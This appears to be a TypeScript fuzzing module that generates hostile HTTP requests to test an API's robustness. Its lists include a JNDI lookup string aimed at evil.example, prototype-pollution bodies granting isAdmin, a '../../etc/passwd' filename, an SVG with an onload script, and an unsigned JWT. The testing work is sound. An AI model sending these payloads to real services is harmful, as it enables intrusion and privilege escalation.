import fc from 'fast-check';
import type { Operation } from '../document';
import { targetOf, type WireRequest } from '../plan';
import { ODD_ENCODED } from './odd-values';
import { ofPlan, ofWire, type Variation } from './variation';

/** Requests that none of our clients send. */
export function hostile(operation: Operation): fc.Arbitrary<Variation> {
  const choices = [hostileQuery(operation), hostileHeaders(operation), oddPaths(operation)];
  if (operation.path.includes('{')) choices.push(hostilePath(operation), hostilePath(operation));
  if (operation.method !== 'GET') choices.push(hostileBytes(operation), hostileTypes(operation));
  if (operation.body?.type.startsWith('multipart/')) choices.push(hostileForms(operation));
  return fc.oneof(...choices);
}

function hostilePath(operation: Operation): fc.Arbitrary<Variation> {
  const names = operation.parameters.filter((each) => each.in === 'path').map(({ name }) => name);
  return fc.tuple(fc.constantFrom(...names), fc.constantFrom(...ODD_ENCODED)).map(([name, text]) =>
    ofWire(operation, 'hostile', `path: ${name} is ${text.slice(0, 40)}`, (request, plan) => ({
      ...request,
      target: targetOf(operation, plan, { [name]: text }),
    })),
  );
}

function oddPaths(operation: Operation): fc.Arbitrary<Variation> {
  const changes: Record<string, (path: string) => string> = {
    'a slash more': (path) => `${path}/`,
    'two slashes': (path) => path.replace('/', '//'),
    capitals: (path) => path.toUpperCase(),
    'a dot segment': (path) => path.replace(/\/([^/]+)$/, '/./$1'),
    'a parameter of a segment': (path) => `${path};jsessionid=1`,
    'an encoded letter': (path) => path.replace('a', '%61'),
    'a question mark more': (path) => `${path}?&&==&?`,
    'a fragment': (path) => `${path}#x`,
  };
  return fc.constantFrom(...Object.entries(changes)).map(([label, change]) =>
    ofWire(operation, 'hostile', `path: ${label}`, (request) => {
      const [path = '', search] = request.target.split('?');
      return { ...request, target: search === undefined ? change(path) : `${change(path)}?${search}` };
    }),
  );
}

function hostileQuery(operation: Operation): fc.Arbitrary<Variation> {
  const documented = operation.parameters.filter((each) => each.in === 'query').map(({ name }) => name);
  const names = fc.constantFrom(...documented, ...documented, 'q', '_');
  const single = fc.tuple(names, fc.constantFrom(...ODD_ENCODED)).map(([name, text]) => `${name}=${text}`);
  const shapes = names.chain((name) =>
    fc.constantFrom(
      `${name}=1&${name}=2`,
      `${name}[]=1`,
      `${name}[a]=1`,
      `${name}[__proto__][x]=1`,
      name,
      `${name}=`,
      `${name}=${'x'.repeat(6_000)}`,
    ),
  );
  const many = fc.constant(Array.from({ length: 300 }, (_, index) => `p${index}=1`).join('&'));
  return fc
    .oneof({ weight: 6, arbitrary: single }, { weight: 3, arbitrary: shapes }, { weight: 1, arbitrary: many })
    .map((search) =>
      ofWire(operation, 'hostile', `query: ${search.slice(0, 40)}`, (request) => ({
        ...request,
        target: `${request.target}${request.target.includes('?') ? '&' : '?'}${search}`,
      })),
    );
}

/** Values that Node sends unchanged; tests on raw sockets cover those that it refuses to send. */
const HEADERS: Record<string, readonly string[]> = {
  accept: ['', '*/*;q=x', 'text/html', 'x'.repeat(4_000)],
  authorization: [
    '',
    'Bearer',
    'Bearer ',
    'Bearer a.b.c',
    'Basic YTpi',
    'bearer x',
    `Bearer ${'x'.repeat(6_000)}`,
    'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.',
  ],
  'content-length-hint': ['-1', '99999999999'],
  cookie: ['a=b; a=c', '=', `x=${'y'.repeat(4_000)}`, '__proto__=1', 'a=%00'],
  'if-none-match': ['*', '"', 'W/"', '"x", W/"y"', '"'.repeat(500)],
  'if-modified-since': ['yesterday', '-1'],
  origin: ['null', 'https://evil.example', 'http://', '://'],
  'sec-fetch-site': ['cross-site', 'same-site', 'x'],
  'sec-gpc': ['1', '2', 'x'],
  'user-agent': ['', '\u00ff\u00fe', 'x'.repeat(3_000), '${jndi:ldap://evil.example/a}'],
  'x-csrf-token': ['', 'x', 'x'.repeat(3_000)],
  'x-elevation-token': ['', 'x', 'x'.repeat(3_000)],
  'x-idle-ms': ['', '-1', '1e9', '0x10', 'NaN', '9'.repeat(3_000)],
  'x-forwarded-for': [
    '',
    'unknown',
    '1.2.3.4, , 5.6.7.8',
    '::1',
    '999.999.999.999',
    `${'1.2.3.4, '.repeat(200)}1.2.3.4`,
  ],
  'x-forwarded-host': ['evil.example', '', 'a, b'],
  'x-forwarded-proto': ['javascript', 'https, http', ''],
  'x-request-id': ['', 'x', '\u00e9', 'a b', 'x'.repeat(2_000)],
  'x-http-method-override': ['DELETE'],
  range: ['bytes=0-', 'bytes=-1', 'bytes=9999999999-', 'lines=1-2'],
  te: ['trailers', 'chunked'],
};

function hostileHeaders(operation: Operation): fc.Arbitrary<Variation> {
  const pairs = Object.entries(HEADERS).flatMap(([name, values]) => values.map((value) => ({ name, value })));
  return fc.constantFrom(...pairs).map(({ name, value }) =>
    ofPlan(operation, 'hostile', `header: ${name}: ${value.slice(0, 40)}`, (plan) => ({
      ...plan,
      headers: { ...plan.headers, [name]: value },
    })),
  );
}

const deep = (open: string, close: string, depth: number) => `${open.repeat(depth)}1${close.repeat(depth)}`;
const BYTES: Record<string, Buffer> = {
  'no body': Buffer.alloc(0),
  'half of a JSON text': Buffer.from('{"a":'),
  'two JSON texts': Buffer.from('{}{}'),
  'a byte order mark': Buffer.from('\ufeff{}'),
  'UTF-16': Buffer.from('{"a":"b"}', 'utf16le'),
  'bytes that are no UTF-8': Buffer.concat([Buffer.from('{"a":"'), Buffer.from([0xff, 0xc0, 0x80]), Buffer.from('"}')]),
  'an overlong NUL in a key': Buffer.from('{"a\\u0000b":1}'),
  'a half of a character': Buffer.from('{"email":"\\ud800","password":"\\udfff","name":"\\ud800"}'),
  NaN: Buffer.from('{"a":NaN}'),
  'a number beyond all doubles': Buffer.from('{"version":1e999,"days":-1e999}'),
  'a number of 5,000 digits': Buffer.from(`{"version":${'9'.repeat(5_000)}}`),
  'a key twice': Buffer.from('{"a":1,"a":2}'),
  'the prototype': Buffer.from('{"__proto__":{"isAdmin":true}}'),
  'the constructor': Buffer.from('{"constructor":{"prototype":{"isAdmin":true}}}'),
  'lists in lists': Buffer.from(deep('[', ']', 10_000)),
  'objects in objects': Buffer.from(deep('{"a":', '}', 5_000)),
  'a text': Buffer.from('"text"'),
  'a number': Buffer.from('7'),
  null: Buffer.from('null'),
  true: Buffer.from('true'),
  'an empty list': Buffer.from('[]'),
  'a comment': Buffer.from('{} // x'),
  'one quote': Buffer.from("{'a':1}"),
  '10,000 keys': Buffer.from(
    JSON.stringify(Object.fromEntries(Array.from({ length: 10_000 }, (_, index) => [`k${index}`, index]))),
  ),
  'half a megabyte of text': Buffer.from(JSON.stringify({ a: 'x'.repeat(500_000) })),
  spaces: Buffer.from(' '.repeat(50_000)),
};

function hostileBytes(operation: Operation): fc.Arbitrary<Variation> {
  const asJson = (request: WireRequest, body: Buffer) => ({
    ...request,
    body,
    headers: { ...request.headers, 'content-type': 'application/json' },
  });
  const known = fc
    .constantFrom(...Object.entries(BYTES))
    .map(([label, bytes]) => ofWire(operation, 'hostile', `body: ${label}`, (request) => asJson(request, bytes)));
  const random = fc
    .uint8Array({ maxLength: 200 })
    .map((bytes) => ofWire(operation, 'hostile', 'body: any bytes', (request) => asJson(request, Buffer.from(bytes))));
  const cut = fc.nat().map((at) =>
    ofWire(operation, 'hostile', 'body: cut off', (request) => ({
      ...request,
      body: request.body?.subarray(0, at % (request.body.length + 1)) ?? Buffer.from('{'),
    })),
  );
  const flipped = fc.nat().map((at) =>
    ofWire(operation, 'hostile', 'body: one byte changed', (request) => ({
      ...request,
      body: flip(request.body ?? Buffer.from('{}'), at),
    })),
  );
  return fc.oneof(
    { weight: 5, arbitrary: known },
    { weight: 1, arbitrary: random },
    { weight: 1, arbitrary: cut },
    { weight: 1, arbitrary: flipped },
  );
}

function flip(bytes: Buffer, at: number): Buffer {
  const copy = Buffer.from(bytes);
  const index = at % Math.max(1, copy.length);
  copy[index] = (copy[index] ?? 0) ^ (1 << (at % 8));
  return copy;
}

const TYPES = [
  '',
  'text/plain',
  'text/html',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  'multipart/form-data; boundary=x',
  'application/json; charset=utf-7',
  'application/json; charset=iso-8859-1',
  'application/json;',
  'application/json, text/plain',
  'application/jsonx',
  'application/octet-stream',
  '\u00ff',
  'x'.repeat(2_000),
];

function hostileTypes(operation: Operation): fc.Arbitrary<Variation> {
  const types = fc.constantFrom(...TYPES).map((type) =>
    ofWire(operation, 'hostile', `content-type: ${type.slice(0, 40)}`, (request) => ({
      ...request,
      headers: { ...request.headers, 'content-type': type },
      body: request.body ?? Buffer.from('{}'),
    })),
  );
  const encodings = fc.constantFrom('gzip', 'br', 'identity', 'x').map((encoding) =>
    ofWire(operation, 'hostile', `content-encoding: ${encoding}`, (request) => ({
      ...request,
      headers: { ...request.headers, 'content-encoding': encoding },
      body: request.body ?? Buffer.from('{}'),
    })),
  );
  return fc.oneof({ weight: 4, arbitrary: types }, { weight: 1, arbitrary: encodings });
}

function hostileForms(operation: Operation): fc.Arbitrary<Variation> {
  const bytes = fc.constantFrom(
    Buffer.alloc(0),
    Buffer.from('%PDF-1.4'),
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    Buffer.from('PK\x03\x04'),
    Buffer.from('GIF89a'),
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    Buffer.alloc(300_000, 0x41),
  );
  const names = fc.constantFrom(
    'a.pdf',
    '',
    '../../etc/passwd',
    'a\u0000b.png',
    '\u202efdp.exe',
    'x'.repeat(3_000),
    'é😀.png',
    "a'b.png",
  );
  return fc
    .tuple(bytes, names, fc.constantFrom('application/pdf', 'image/png', 'text/html', ''))
    .map(([content, name, type]) =>
      ofPlan(operation, 'hostile', `file: ${name.slice(0, 30)}, ${content.length} bytes`, (plan) => {
        const file = plan.form?.file;
        return plan.form && file
          ? { ...plan, form: { ...plan.form, file: { ...file, name, type, bytes: content } } }
          : plan;
      }),
    );
}
